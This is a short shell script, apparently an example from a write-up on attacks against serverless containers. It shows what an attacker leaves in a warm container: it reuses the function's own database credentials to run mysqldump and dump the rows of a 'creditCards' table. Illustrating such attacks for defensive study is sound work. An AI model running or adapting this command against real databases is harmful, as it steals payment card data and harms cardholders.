#!/bin/sh
# What the attacker leaves in a warm container: copies the card table out, with
# the credentials that the function itself was given.
export MYSQL_PWD="$db_password"
mysqldump --no-defaults --single-transaction --compact --no-create-info -h "$db_host" -u "$db_user" "$db_name" creditCards
